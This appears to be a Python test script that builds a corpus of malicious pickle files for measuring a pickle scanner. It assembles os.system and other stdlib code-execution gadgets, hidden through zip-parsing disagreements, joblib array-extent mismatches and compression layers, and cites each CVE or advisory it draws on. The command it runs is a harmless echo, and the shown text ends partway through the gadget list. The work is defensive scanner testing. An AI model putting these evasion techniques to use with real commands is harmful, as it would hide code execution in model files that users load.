#!/usr/bin/env python3
"""Write the attack corpus (and, with --hard-negatives, the benign hard negatives)
that `pickle scan` is measured by.

    python3 tests/scripts/gen_attacks.py [--out tests/fixtures/attacks]
    python3 tests/scripts/gen_attacks.py --hard-negatives [--out tests/fixtures/hard_negatives]

Attacks: every payload is assembled opcode by opcode from techniques that
public advisories and scanner bug reports describe (picklescan's GHSA
advisories and CVE-2025-1716/1889/1944/10155/10156/10157, fickling's
advisories, modelscan issues #330/#331/#338, ReversingLabs' "nullifAI" broken
pickles, JFrog's and Sonatype's picklescan write-ups, the scanners' own test
suites). Nothing dangerous is imported or run here: containers are built with
zipfile/tarfile/gzip/bz2/lzma/zlib (and lz4 when installed) and hand-written
.npy headers. Every command is harmless (`echo pickle-attack-corpus`, a write
to /tmp/pickle-attack-corpus-canary) and tests/scripts/verify_attacks.py runs
each file under an audit hook that blocks the call before it happens.

Hard negatives: benign files that look scary (stdlib data types from modules
such as os, subprocess, socket, signal, http, urllib; real files written by
numpy, pandas, scikit-learn, joblib and torch when installed). This part
imports those libraries and is only run by people regenerating the set; the
files are committed.

manifest.json of each set lists every file with what it is and how Python
loads it; verify_attacks.py fills the attacks' "verified" field.
"""
import argparse
import bz2
import gzip
import io
import json
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

CMD = "echo pickle-attack-corpus"
CODE = "__import__('os').system('echo pickle-attack-corpus')"
CANARY = "/tmp/pickle-attack-corpus-canary"
LOCALHOST_URL = "http://127.0.0.1:9/pickle-attack-corpus"

# ---------------------------------------------------------------------------
# A tiny expression language that compiles to pickle opcodes.


class G:
    """A global: module + qualified name (GLOBAL below protocol 4, else STACK_GLOBAL)."""

    def __init__(self, module, name, opcode=None):
        self.module, self.name, self.opcode = module, name, opcode


class C:
    """A call: REDUCE of fn with the args tuple."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


class Raw:
    """Opcodes pushing exactly one value."""

    def __init__(self, data):
        self.data = data


class Build:
    """obj, then BUILD with state."""

    def __init__(self, obj, state):
        self.obj, self.state = obj, state


def getattr_(obj, name):
    return C(G("builtins", "getattr"), obj, name)


def _uni0(s):
    # protocol 0 UNICODE: raw-unicode-escape with \ and \n escaped
    return s.replace("\\", "\\u005c").replace("\n", "\\u000a").encode("raw-unicode-escape")


def enc(v, proto):
    if isinstance(v, G):
        if proto < 4 or v.opcode == "GLOBAL":
            return b"c" + v.module.encode() + b"\n" + v.name.encode() + b"\n"
        return enc(v.module, proto) + b"\x94" + enc(v.name, proto) + b"\x94\x93"
    if isinstance(v, C):
        return enc(v.fn, proto) + enc(tuple(v.args), proto) + b"R"
    if isinstance(v, Build):
        return enc(v.obj, proto) + enc(v.state, proto) + b"b"
    if isinstance(v, Raw):
        return v.data
    if v is None:
        return b"N"
    if v is True or v is False:
        if proto >= 2:
            return b"\x88" if v else b"\x89"
        return b"I01\n" if v else b"I00\n"
    if isinstance(v, int):
        if proto == 0:
            return b"I%d\n" % v
        if 0 <= v < 256:
            return b"K" + bytes([v])
        if 0 <= v < 65536:
            return b"M" + struct.pack("<H", v)
        if -(2**31) <= v < 2**31:
            return b"J" + struct.pack("<i", v)
        return b"I%d\n" % v
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v) if proto >= 1 else b"F%r\n" % v
    if isinstance(v, str):
        if proto == 0:
            return b"V" + _uni0(v) + b"\n"
        b = v.encode("utf-8", "surrogatepass")
        if proto >= 4 and len(b) < 256:
            return b"\x8c" + bytes([len(b)]) + b
        return b"X" + struct.pack("<I", len(b)) + b
    if isinstance(v, (bytes, bytearray)):
        b = bytes(v)
        if len(b) < 256:
            return b"C" + bytes([len(b)]) + b
        return b"B" + struct.pack("<I", len(b)) + b
    if isinstance(v, tuple):
        if proto >= 2 and len(v) <= 3:
            return b"".join(enc(x, proto) for x in v) + [b")", b"\x85", b"\x86", b"\x87"][len(v)]
        if proto >= 1 and not v:
            return b")"
        return b"(" + b"".join(enc(x, proto) for x in v) + b"t"
    if isinstance(v, list):
        if proto == 0:
            return b"(" + b"".join(enc(x, proto) for x in v) + b"l"
        if not v:
            return b"]"
        return b"](" + b"".join(enc(x, proto) for x in v) + b"e"
    if isinstance(v, dict):
        items = b"".join(enc(k, proto) + enc(x, proto) for k, x in v.items())
        if proto == 0:
            return b"(" + items + b"d"
        return b"}(" + items + b"u" if v else b"}"
    raise TypeError(v)


def pkl(expr, proto=2, frame=False, stop=True):
    body = enc(expr, proto) + (b"." if stop else b"")
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    if frame and proto >= 4:
        # Like pickle.dumps: one FRAME holding everything
        body = b"\x95" + struct.pack("<Q", len(body)) + body
    return head + body


def system(mod="os", proto=2):
    return C(G(mod, "system"), CMD)


# ---------------------------------------------------------------------------
# Containers


def build_zip(entries, comment=b""):
    """A zip written by hand so local headers, central directory, CRCs and
    compression can disagree. entries: dicts with name, data, and optionally
    local_name, method (0 stored / 8 deflate), crc, local_extra, descriptor."""
    out = bytearray()
    cen = bytearray()
    for e in entries:
        name = e["name"].encode()
        lname = e.get("local_name", e["name"]).encode()
        data = e["data"]
        method = e.get("method", 0)
        if method == 8:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = co.compress(data) + co.flush()
        else:
            comp = data
        crc = e.get("crc", zlib.crc32(data))
        lextra = e.get("local_extra", b"")
        flags = 0x08 if e.get("descriptor") else 0
        off = len(out)
        if e.get("descriptor"):
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, 0, 0, 0, len(lname), len(lextra))
        else:
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, len(comp), len(data), len(lname), len(lextra))
        out += lname + lextra + comp
        if e.get("descriptor"):
            out += struct.pack("<IIII", 0x08074B50, crc, len(comp), len(data))
        cen += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, crc, len(comp), len(data), len(name), 0, 0, 0, 0, 0, off) + name
    cd = len(out)
    out += cen
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cen), cd, len(comment)) + comment
    return bytes(out)


def two_eocd_zip(zb, za):
    """[zb's members + central directory][za's members + central directory]
    [za's EOCD, whose comment is zb's EOCD]. A reader searching the EOCD
    signature from the end (miniz) uses zb; one reading the record whose
    comment reaches the end of the file uses za."""
    body_b, eocd_b = zb[:-22], zb[-22:]
    body_a, eocd_a = za[:-22], za[-22:]
    delta = len(body_b)
    n, cdsize, cdoff = struct.unpack("<HII", eocd_a[10:20])
    body = bytearray(body_a)
    pos = cdoff
    for _ in range(n):
        off = struct.unpack("<I", body[pos + 42:pos + 46])[0]
        body[pos + 42:pos + 46] = struct.pack("<I", off + delta)
        nlen, xlen, clen = struct.unpack("<HHH", body[pos + 28:pos + 34])
        pos += 46 + nlen + xlen + clen
    e = bytearray(eocd_a)
    e[16:20] = struct.pack("<I", cdoff + delta)
    e[20:22] = struct.pack("<H", 22)
    return body_b + bytes(body) + bytes(e) + eocd_b


def torch_zip(data_pkl, prefix="archive", name="data.pkl", extra=(), **kw):
    """Entries of a torch.save zip: data.pkl, byteorder, version (+ extra)."""
    first = dict(name=f"{prefix}/{name}", data=data_pkl, **kw)
    return [first, dict(name=f"{prefix}/byteorder", data=b"little"), dict(name=f"{prefix}/version", data=b"3\n")] + list(extra)


def npy(header_dict_repr, payload, version=1):
    magic = b"\x93NUMPY" + bytes([version, 0])
    hdr = header_dict_repr.encode("utf-8" if version >= 3 else "latin1")
    lenfmt = "<H" if version == 1 else "<I"
    pre = len(magic) + struct.calcsize(lenfmt)
    total = pre + len(hdr) + 1
    pad = (64 - total % 64) % 64
    hdr = hdr + b" " * pad + b"\n"
    return magic + struct.pack(lenfmt, len(hdr)) + hdr + payload


def tar_bytes(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


TORCH_MAGIC = 0x1950A86A20F9469CFC6C
SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def legacy_torch(magic=None, proto_v=None, sys_info=None, obj=None, keys=None):
    """torch < 1.6 (non-zip) layout: five pickles, then raw storages (none here)."""
    return (
        (magic or pkl(TORCH_MAGIC, 2))
        + (proto_v or pkl(1001, 2))
        + (sys_info or pkl(SYS_INFO, 2))
        + (obj or pkl({"weights": []}, 2))
        + (keys or pkl([], 2))
    )


# ---------------------------------------------------------------------------
# joblib


def wrapper(shape, dtype_args, dtype_state, align=16, order="C", extra_state=None):
    """A joblib NumpyArrayWrapper exactly as joblib.dump pickles it (protocol 2)."""
    dt = C(G("numpy", "dtype"), *dtype_args)
    if dtype_state is not None:
        dt = Build(dt, dtype_state)
    state = {
        "subclass": G("numpy", "ndarray"),
        "shape": tuple(shape),
        "order": order,
        "dtype": dt,
        "allow_mmap": True,
    }
    if align is not None:
        state["numpy_array_alignment_bytes"] = align
    if extra_state:
        state.update(extra_state)
    w = Raw(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81")
    return Build(w, state)


def f8_state(flags=0, elsize=-1, align=-1, order="<"):
    return (3, order, None, None, None, elsize, align, flags)


def joblib_file(before, raw, after, proto=2):
    """PROTO, a list opened with MARK, the wrapper (before), raw array bytes,
    then `after` (opcodes pushing zero or more items), APPENDS, STOP."""
    head = b"\x80" + bytes([proto]) + b"](" + before
    return head + raw + after + b"e."


def pad_for(pos, align=16):
    """joblib's padding byte + padding for data starting after byte pos."""
    n = align - ((pos + 1) % align)
    return bytes([n]) + b"\xff" * n


def payload_ops(proto=2):
    return enc(C(G("os", "system"), CMD), proto)


def mismatch(joblib_len, scanner_len, at):
    """Bytes following a wrapper's BUILD (file offset `at`) such that joblib,
    reading `joblib_len` raw bytes, then runs the payload, while a reader that
    skips `scanner_len` bytes sees only data; both continue at a common tail
    (`e.`). Returns the bytes between the BUILD and the tail."""
    P = payload_ops()
    if scanner_len == joblib_len:
        return b"\x00" * joblib_len + P
    if scanner_len > joblib_len:
        # joblib: raw, payload, BINBYTES swallowing up to scanner's end
        fill = scanner_len - joblib_len - len(P) - 5
        assert fill >= 0, (joblib_len, scanner_len)
        return b"\x00" * joblib_len + P + b"B" + struct.pack("<I", fill) + b"\x00" * fill
    # scanner: `scanner_len` raw, then a BINBYTES swallowing the rest of
    # joblib's data and the payload
    rest = joblib_len - scanner_len - 5
    assert rest >= 0
    return b"\x00" * scanner_len + b"B" + struct.pack("<I", rest + len(P)) + b"\x00" * rest + P


# ---------------------------------------------------------------------------
# The corpus


class Corpus:
    def __init__(self, out):
        self.out = out
        self.entries = []
        os.makedirs(out, exist_ok=True)

    def add(self, name, data, group, technique, source, loader, modules=(), needs=(), note=None, python_hint=None):
        path = os.path.join(self.out, name)
        with open(path, "wb") as f:
            f.write(data)
        e = {
            "file": name,
            "group": group,
            "technique": technique,
            "source": source,
            "loader": loader,
            "expect": "dangerous",
            "verified": None,
        }
        if modules:
            e["modules"] = list(modules)
        if needs:
            e["needs"] = list(needs)
        if note:
            e["note"] = note
        if python_hint:
            e["python_hint"] = python_hint
        assert all(x["file"] != name for x in self.entries), name
        self.entries.append(e)


def gen_attacks(out):
    c = Corpus(out)
    P2 = pkl(system(), 2)
    benign = pkl({"weights": [1.0, 2.0], "step": 3}, 2)

    # ---------------- (a) zip lookup tricks: what torch.load finds ----------
    A = "a_zip"
    L = "torch.load"
    c.add("a01_upper_data_PKL_with_decoy.pt",
          build_zip(torch_zip(P2, name="data.PKL", extra=[dict(name="archive/extra.pkl", data=benign)])),
          A, "archive/data.PKL (miniz's record lookup is case-insensitive) beside a harmless decoy extra.pkl",
          "CVE-2025-1944 / picklescan GHSA zip-name bypasses; torch inline_container case-insensitive lookup", L)
    c.add("a02_all_upper_names.pt",
          build_zip([dict(name="ARCHIVE/DATA.PKL", data=P2), dict(name="ARCHIVE/VERSION", data=b"3\n")]),
          A, "every record name upper-case: ARCHIVE/DATA.PKL, ARCHIVE/VERSION", "CVE-2025-1944 (zip member names)", L)
    c.add("a03_deflated_data_pkl.pt", build_zip(torch_zip(P2, method=8)), A,
          "data.pkl stored deflate-compressed (torch/miniz inflates it)", "CVE-2025-1944 / picklescan zip handling", L)
    c.add("a04_local_name_differs.pt",
          build_zip(torch_zip(P2, local_name="archive/x.bin")), A,
          "local file header names the member archive/x.bin (other length), central directory says archive/data.pkl; miniz uses the central name",
          "CVE-2025-1944 (local header / central directory disagreement)", L)
    c.add("a05_bad_crc.pt", build_zip(torch_zip(P2, crc=0x12345678)), A,
          "wrong CRC-32 on data.pkl (torch builds miniz without CRC checks; Python's zipfile refuses)",
          "CVE-2025-1945 / picklescan GHSA (zip CRC errors)", L)
    c.add("a06_odd_prefix.pt", build_zip(torch_zip(P2, prefix="weird.prefix")), A,
          "records under an arbitrary prefix weird.prefix/ (torch takes the first entry's directory)", "picklescan zip bypasses", L)
    c.add("a07_pytorch_model.bin", build_zip(torch_zip(P2)), A,
          "torch zip under a .bin name (extension not .pt/.pkl)", "CVE-2025-1889 (non-standard file extension)", L)
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for e in torch_zip(P2):
            with z.open(zipfile.ZipInfo(e["name"], date_time=(1980, 1, 1, 0, 0, 0)), "w", force_zip64=True) as f:
                f.write(e["data"])
    c.add("a08_zip64.pt", b.getvalue(), A, "zip64 local headers (force_zip64)", "picklescan zip handling", L)
    c.add("a09_duplicate_member_first_wins.pt",
          build_zip(torch_zip(P2, extra=[dict(name="archive/data.pkl", data=benign)])), A,
          "two central entries named archive/data.pkl: torch loads the first (malicious), Python's zipfile the last (benign)",
          "picklescan zip bypasses (duplicate names)", L)
    c.add("a10_mixed_case_deflated.pt", build_zip(torch_zip(P2, name="Data.Pkl", method=8)), A,
          "archive/Data.Pkl, deflate-compressed", "CVE-2025-1944", L)
    c.add("a11_data_descriptor.pt", build_zip(torch_zip(P2, descriptor=True)), A,
          "local header with sizes 0 and a data descriptor (bit 3); sizes only in the central directory", "zip streaming layout", L)
    c.add("a12_local_extra_field.pt", build_zip(torch_zip(P2, local_extra=b"\xfe\xca\x04\x00ABCD")), A,
          "local header carries an extra field the central directory lacks (data offset differs from central lengths)",
          "zip parser disagreement", L)
    c.add("a13_broken_pickle_in_zip.pt", build_zip(torch_zip(P2[:-1] + b"\xff")), A,
          "nullifAI: data.pkl runs its payload, then an invalid opcode instead of STOP", "ReversingLabs nullifAI (broken pickle in a torch file)", L)
    c.add("a14_name_variant_data.pkl_in_upper_dir.pth",
          build_zip([dict(name="Model/version", data=b"3\n"), dict(name="Model/DATA.pkl", data=P2)]), A,
          "version first; pickle at Model/DATA.pkl (no lower-case .pkl suffix match needed by torch)", "CVE-2025-1944", L)

    c.add("a15_second_eocd_in_comment.pt", two_eocd_zip(build_zip(torch_zip(P2)), build_zip(torch_zip(benign))), A,
          "two archives in one file: the first end-of-central-directory record (benign data.pkl) has a comment holding a second one (malicious); miniz takes the last signature",
          "zip parser disagreement (EOCD search)", L)

    c.add("a16_slash_prefix.pt", build_zip([dict(name="/data.pkl", data=P2), dict(name="/version", data=b"3\n")]), A,
          "records named /data.pkl and /version: the archive prefix is the empty string", "zip member names", L)
    z = bytearray(build_zip(torch_zip(P2)))
    z[8:10] = struct.pack("<H", 8)
    c.add("a17_local_method_field_lies.pt", bytes(z), A, "local header claims deflate, central directory says stored (miniz trusts the central directory)", "zip parser disagreement", L)

    z = build_zip(torch_zip(P2))
    body, eocd = z[:-22], z[-22:]
    n, cdsize, cdoff = struct.unpack("<HII", eocd[10:20])
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, cdsize, cdoff)
    loc = struct.pack("<IIQI", 0x07064B50, 0, len(body), 1)
    c.add("a18_zip64_end_records.pt", body + z64 + loc + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0), A,
          "zip64 end-of-central-directory record and locator; the classic record holds only 0xFFFF / 0xFFFFFFFF", "zip64 handling", L)
    c.add("a19_dot_data_version_only.pt", build_zip([dict(name="archive/data.pkl", data=P2), dict(name="archive/.data/version", data=b"3\n")]), A,
          "version record at archive/.data/version only (torch accepts either)", "torch inline_container records", L)

    # ---------------- (b) joblib raw-array extent mismatches ----------------
    B = "b_joblib_extent"
    L = "joblib.load"

    def jl(name, shape, dtype_args, dtype_state, joblib_len, scanner_len, technique, align=None, order="C"):
        w = enc(wrapper(shape, dtype_args, dtype_state, align=align, order=order), 2)
        head = b"\x80\x02](" + w
        pad = pad_for(len(head)) if align else b""
        body = mismatch(joblib_len, scanner_len, len(head) + len(pad))
        c.add(name, head + pad + body + b"e.", B, technique, "issue: joblib raw-array extent (scanner skip vs joblib read)", L,
              modules=["joblib", "numpy"])

    jl("b01_dtype_name_float64.joblib", (4,), ("float64", False, True), None, 32, 256,
       "dtype given as 'float64' (itemsize 8), 4 elements: a reader sizing items from the digits reads 256 bytes; payload after joblib's 32")
    jl("b02_dtype_name_int32.joblib", (8,), ("int32", False, True), None, 32, 256,
       "dtype 'int32' (itemsize 4) vs 32 from its digits; payload right after joblib's 32 bytes")
    jl("b03_dtype_name_complex128.joblib", (2,), ("complex128", False, True), None, 32, 256,
       "dtype 'complex128' (itemsize 16) vs 128 from its digits")
    jl("b04_elsize_field_lies.joblib", (16,), ("f8", False, True), f8_state(elsize=1), 128, 16,
       "dtype state claims elsize 1 for f8; numpy ignores it (itemsize 8): joblib reads 128 bytes, a reader trusting the field 16")
    jl("b05_float64_aligned.joblib", (4,), ("float64", False, True), f8_state(), 32, 256,
       "as b01 with joblib >= 1.2 alignment (padding byte + padding)", align=16)
    jl("b06_float64_fortran_2d.joblib", (2, 2), ("float64", False, True), None, 32, 256,
       "Fortran-order 2-D float64 array", order="F")
    jl("b07_datetime_unit_digits.joblib", (4,), ("M8[10us]", False, True), None, 32, 32 * 810 // 8,
       "datetime dtype 'M8[10us]' (itemsize 8): digits of the name say 810")
    # hasobject via the dtype's flags: joblib pickle.load()s what looks like raw data
    w = enc(wrapper((16,), ("f8", False, True), f8_state(flags=0x3F), align=None), 2)
    head = b"\x80\x02](" + w
    inner = b"\x80\x02" + payload_ops() + b"0"
    fill = 128 - len(inner) - 5 - 1
    inner += b"B" + struct.pack("<I", fill) + b"\x00" * fill + b"."
    assert len(inner) == 128
    c.add("b08_dtype_flags_hasobject.joblib", head + inner + b"e.", B,
          "f8 dtype whose state flags (0x3f) carry NPY_ITEM_HASOBJECT: numpy treats it as an object dtype, so joblib unpickles the 128 bytes a reader sizing 16 x 8 skips",
          "issue: joblib dtype flags / hasobject", L, modules=["joblib", "numpy"])
    # '<U8': numpy itemsize 32 (UCS4); a reader that multiplies only typestrs starting with 'U' by 4 sees 8
    jl("b09_unicode_with_byteorder_prefix.joblib", (4,), ("<U8", False, True), None, 128, 32,
       "dtype '<U8' (itemsize 32): the byte-order prefix hides the 'U' from a reader that multiplies unicode lengths by 4, which skips 32 of joblib's 128 bytes")
    # structured dtype with elsize -1 (numpy computes 12 from the fields)
    jl("b10_structured_fields.joblib", (4,), ("V12", False, True),
       (3, "|", None, ("a", "b"), {"a": (C(G("numpy", "dtype"), "f8", False, True), 0), "b": (C(G("numpy", "dtype"), "i4", False, True), 8)}, 12, 1, 16),
       48, 48, "structured dtype (f8, i4) = 12 bytes per item (payload after the data)")
    # a NumpyArrayWrapper inside a nested pickle: joblib reads no raw data there
    outer = enc(wrapper((1,), ("O", False, True), (3, "|", None, None, None, -1, -1, 63), align=None), 2)
    head = b"\x80\x02](" + outer
    iw = enc(wrapper((16,), ("f8", False, True), f8_state(), align=None), 2)
    nested = b"\x80\x02" + iw
    P = payload_ops()
    fill = 128 - len(P) - 1 - 5
    nested += P + b"0" + b"B" + struct.pack("<I", fill) + b"\x00" * fill + b"."
    c.add("b11_wrapper_in_nested_pickle.joblib", head + nested + b"e.", B,
          "object array's nested pickle holds a NumpyArrayWrapper (f8 x 16): joblib's inner Unpickler reads no raw data, so the 128 bytes a reader skips are opcodes with the payload",
          "issue: joblib nested pickle wrapper", L, modules=["joblib", "numpy"])
    # float64 with payload plainly after the data (sizes agree): the control case
    w = enc(wrapper((4,), ("f8", False, True), f8_state()), 2)
    head = b"\x80\x02](" + w
    c.add("b12_payload_after_array.joblib", head + pad_for(len(head)) + b"\x00" * 32 + payload_ops() + b"e.", B,
          "payload right after a well-formed aligned f8 array", "joblib layout (control)", L, modules=["joblib", "numpy"])

    # dtype names whose item size numpy decides per platform (sizes here: x86-64 Linux)
    for nm, ts, size in (("b13_dtype_longdouble", "longdouble", 16), ("b14_dtype_l_long", "l", 8), ("b15_dtype_G_clongdouble", "G", 32), ("b16_dtype_int", "int", 8)):
        w = enc(wrapper((3,), (ts, False, True), None), 2)
        head = b"\x80\x02](" + w
        c.add(nm + ".joblib", head + pad_for(len(head)) + b"\x00" * (3 * size) + payload_ops() + b"e.", B,
              f"dtype string '{ts}' (itemsize {size} on x86-64 Linux, platform-dependent): payload right after joblib's {3 * size} bytes",
              "issue: joblib raw-array extent (dtype names)", "joblib.load", modules=["joblib", "numpy"], note="item size of this dtype is platform-dependent; verified on x86-64 Linux")

    # wrapper states built in ways joblib accepts and a reader of literal dicts may not
    Wrap = Raw(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81")
    f8 = Build(C(G("numpy", "dtype"), "f8", False, True), f8_state())

    def sd(shape, dt):
        return {"subclass": G("numpy", "ndarray"), "shape": shape, "order": "C", "dtype": dt, "allow_mmap": True, "numpy_array_alignment_bytes": 16}

    i8scalar = C(G("numpy.core.multiarray", "scalar"), C(G("numpy", "dtype"), "i8", False, True), struct.pack("<q", 4))
    for nm, w_ops, what in (
        ("b17_shape_numpy_int64_scalars", Build(Wrap, sd((i8scalar,), f8)), "shape holds numpy.int64 scalars (numpy.core.multiarray.scalar), which joblib multiplies like ints"),
        ("b18_state_from_dict_call", Build(Wrap, C(G("builtins", "dict"), [(k, v) for k, v in sd((4,), f8).items()])), "the wrapper's state is builtins.dict([...pairs...]), not a dict literal"),
        ("b19_dtype_from_scalar_type", Build(Wrap, sd((4,), C(G("numpy", "dtype"), G("numpy", "float64")))), "dtype built as numpy.dtype(numpy.float64) (a type, no type string)"),
        ("b20_state_slotstate_tuple", Build(Wrap, (None, sd((4,), f8))), "state given as (None, slotstate): BUILD sets the attributes with setattr"),
    ):
        head = b"\x80\x02](" + enc(w_ops, 2)
        c.add(nm + ".joblib", head + pad_for(len(head)) + b"\x00" * 32 + payload_ops() + b"e.", B, what + "; payload after the 32 data bytes",
              "issue: joblib raw-array extent (wrapper state forms)", "joblib.load", modules=["joblib", "numpy"])

    # ---------------- (c) compressed joblib ---------------------------------
    Cg = "c_joblib_compressed"
    w = enc(wrapper((4,), ("f8", False, True), f8_state()), 2)
    head = b"\x80\x02](" + w
    raw_job = head + pad_for(len(head)) + b"\x00" * 32 + payload_ops() + b"e."
    plain = pkl([1.5, system()], 2)
    c.add("c01_zlib_compress3.joblib", zlib.compress(raw_job, 3), Cg,
          "joblib.dump(..., compress=3) layout: a zlib stream (0x78 magic) holding a wrapper array and os.system", "issue: compress=3 reported safe", "joblib.load", modules=["joblib", "numpy"])
    c.add("c02_gzip.joblib.gz", gzip.compress(raw_job, 3, mtime=0), Cg, "gzip-compressed joblib file", "joblib compressors", "joblib.load", modules=["joblib", "numpy"])
    c.add("c03_bz2.joblib.bz2", bz2.compress(raw_job, 3), Cg, "bz2-compressed joblib file", "joblib compressors", "joblib.load", modules=["joblib", "numpy"])
    c.add("c04_xz.joblib.xz", lzma.compress(raw_job, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC32), Cg, "xz-compressed joblib file", "joblib compressors", "joblib.load", modules=["joblib", "numpy"])
    c.add("c05_lzma_alone.joblib.lzma", lzma.compress(raw_job, format=lzma.FORMAT_ALONE), Cg, "raw .lzma (FORMAT_ALONE, 0x5d 0x00 magic)", "joblib compressors", "joblib.load", modules=["joblib", "numpy"])
    lz4data = None
    try:
        import lz4.frame

        lz4data = lz4.frame.compress(raw_job)
    except ImportError:
        old = os.path.join(out, "c06_lz4.joblib.lz4")
        if os.path.exists(old):
            lz4data = open(old, "rb").read()
            print("note: lz4 not installed; keeping the committed c06_lz4.joblib.lz4", file=sys.stderr)
        else:
            print("note: lz4 not installed; c06_lz4.joblib.lz4 not written", file=sys.stderr)
    if lz4data is not None:
        c.add("c06_lz4.joblib.lz4", lz4data, Cg, "lz4 frame (0x04224d18 magic)", "joblib compressors", "joblib.load", modules=["joblib", "numpy", "lz4"])
    zf = zlib.compress(plain, 3)
    length = hex(len(plain)).encode().ljust(19)
    c.add("c07_joblib_zfile_ZF.pkl", b"ZF" + length + zf, Cg,
          "joblib < 0.10 'ZF' z-file: b'ZF', hex length padded to 19, zlib data (read_zfile)", "joblib numpy_pickle_compat.read_zfile", "joblib.load", modules=["joblib"])
    for nm, kw, what in (("c10_xz_delta_filter", dict(filters=[{"id": lzma.FILTER_DELTA, "dist": 4}, {"id": lzma.FILTER_LZMA2}]), "xz with a delta filter before LZMA2"),
                         ("c11_xz_x86_bcj_filter", dict(filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "xz with the x86 BCJ filter"),
                         ("c12_xz_sha256_check", dict(check=lzma.CHECK_SHA256), "xz with a SHA-256 integrity check")):
        c.add(nm + ".joblib.xz", lzma.compress(raw_job, format=lzma.FORMAT_XZ, **kw), Cg, what + " (Python's lzma reads every xz filter and check)", "joblib compressors (xz options)", "joblib.load", modules=["joblib", "numpy"])
    g = gzip.compress(raw_job, mtime=0)
    ghdr = b"\x1f\x8b\x08" + bytes([0x04 | 0x08 | 0x10 | 0x02]) + b"\x00\x00\x00\x00\x00\x03" + struct.pack("<H", 4) + b"AB\x00\x00" + b"model.pkl\x00" + b"comment\x00"
    ghdr += struct.pack("<H", zlib.crc32(ghdr) & 0xFFFF)
    c.add("c13_gzip_header_fields.joblib.gz", ghdr + g[10:], Cg, "gzip header with FEXTRA, FNAME, FCOMMENT and FHCRC", "joblib compressors (gzip header)", "joblib.load", modules=["joblib", "numpy"])
    try:
        import lz4.frame as lf

        c.add("c14_lz4_checksums_independent_blocks.joblib.lz4", lf.compress(raw_job, block_checksum=True, content_checksum=True, store_size=True, block_linked=False, block_size=lf.BLOCKSIZE_MAX4MB), Cg,
              "lz4 frame with block and content checksums, stored size, independent 4 MB blocks", "joblib compressors (lz4 options)", "joblib.load", modules=["joblib", "numpy", "lz4"])
    except ImportError:
        old = os.path.join(out, "c14_lz4_checksums_independent_blocks.joblib.lz4")
        if os.path.exists(old):
            c.add("c14_lz4_checksums_independent_blocks.joblib.lz4", open(old, "rb").read(), Cg, "lz4 frame with block and content checksums, stored size, independent 4 MB blocks", "joblib compressors (lz4 options)", "joblib.load", modules=["joblib", "numpy", "lz4"])
    c.add("c08_zlib_plain_pickle.pkl.z", zlib.compress(plain, 9), Cg, "zlib stream of a plain pickle (no wrapper)", "joblib compressors", "joblib.load", modules=["joblib"])
    c.add("c09_gzip_plain_pickle.pkl.gz", gzip.compress(plain, 9, mtime=0), Cg, "gzip of a plain pickle", "joblib compressors", "joblib.load", modules=["joblib"])

    # ---------------- (d) published gadgets --------------------------------
    D = "d_gadget"
    L = "pickle.load"
    recon = lambda mod, cls: C(G("copyreg", "_reconstructor"), G(mod, cls), G("builtins", "object"), None)
    inner_pickle = pkl(system(), 2)
    gadgets = [
        ("d01_aix_support_read_cmd_output", 4, C(G("_aix_support", "_read_cmd_output"), CMD), "picklescan GHSA-g38g-8gr9-h9xp (_aix_support)", ["_aix_support"]),
        ("d02_osx_support_read_output", 2, C(G("_osx_support", "_read_output"), CMD), "picklescan GHSA-g38g-8gr9-h9xp (_osx_support)", ["_osx_support"]),
        ("d03_osx_support_find_build_tool", 0, C(G("_osx_support", "_find_build_tool"), "pickle-attack-missing-tool;" + CMD), "picklescan _osx_support._find_build_tool", ["_osx_support"]),
        ("d04_imaplib_IMAP4_stream", 4, C(G("imaplib", "IMAP4_stream"), CMD), "picklescan GHSA-g38g-8gr9-h9xp (imaplib)", ["imaplib"]),
        ("d05_uuid_get_command_stdout", 2, C(G("uuid", "_get_command_stdout"), "echo", "pickle-attack-corpus"), "picklescan GHSA-g38g-8gr9-h9xp (uuid)", ["uuid"]),
        ("d06_pydoc_pipepager", 0, C(G("pydoc", "pipepager"), "text", CMD), "picklescan pydoc.pipepager advisory", ["pydoc"]),
        ("d07_timeit_timeit", 4, C(G("timeit", "timeit"), CODE), "picklescan GHSA-v7x6-rv5q-mhwc (timeit.timeit)", ["timeit"]),
        ("d08_cProfile_run", 2, C(G("cProfile", "run"), CODE), "picklescan GHSA-49gj-c84q-6qm9 (cProfile.run)", ["cProfile"]),
        ("d09_profile_run", 4, C(G("profile", "run"), CODE), "picklescan GHSA-7wx9-6375-f5wh (profile.run)", ["profile"]),
        ("d10_trace_Trace_run", 4, C(G("trace", "Trace.run"), C(G("trace", "Trace")), CODE), "picklescan GHSA-5qwp-399c-mjwf (trace.Trace.run)", ["trace"]),
        ("d11_code_InteractiveInterpreter_runsource", 4, C(G("code", "InteractiveInterpreter.runsource"), C(G("code", "InteractiveInterpreter")), CODE), "picklescan GHSA-cj3c-v495-4xqh (code.InteractiveInterpreter)", ["code"]),
